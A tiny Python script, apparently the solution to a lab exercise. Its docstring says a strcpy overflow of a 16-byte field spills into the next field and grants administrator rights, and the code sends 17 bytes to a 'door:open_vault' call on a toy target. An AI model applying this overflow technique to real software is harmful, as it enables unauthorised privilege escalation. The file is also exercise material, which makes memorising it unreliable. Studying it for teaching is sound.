"""Sixteen bytes fill the field, and strcpy writes the seventeenth into the next one, which makes an administrator."""

from target import call

print(call("door:open_vault", "x" * 17))
